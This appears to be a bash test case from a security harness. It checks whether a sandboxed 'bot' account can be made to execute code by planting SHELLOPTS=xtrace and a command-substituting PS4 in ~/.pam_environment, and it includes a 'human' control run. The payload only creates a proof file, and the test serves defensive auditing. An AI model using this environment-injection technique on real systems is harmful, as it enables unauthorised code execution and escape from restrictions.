# SHELLOPTS and PS4: with xtrace bash expands PS4, substitutions and all, before each command.
PROMISE=P1
SOURCE="CVE-2014-6271 class; bash(1), PS4"
NEEDS_RUN=no
before() {
    : >"$W/out/seen"
    printf 'touch %s/work/proof\n' "$WHO_HOME" >"$WHO_HOME/work/code"
    chown "$WHO" "$WHO_HOME/work/code"
    echo 'SHELLOPTS DEFAULT=xtrace
PS4 DEFAULT="\$(. @/code)"' | sed "s,@,$WHO_HOME/work," >"$WHO_HOME/.pam_environment"
}
after() { rm -f "$WHO_HOME/.pam_environment"; }
attack() { :; }
launch() {
    be bot
    bot 'bash -c /bin/true; true' >"$W/out/seen" 2>&1
}
success() { [ -e "$WHO_HOME/work/proof" ] || grep -q 'cannot be preloaded' "$W/out/seen"; }
twin() {
    be human
    human 'bash -c /bin/true; true' >"$W/out/seen" 2>&1
    success || skip 'pam_env reads no ~/.pam_environment here'
}
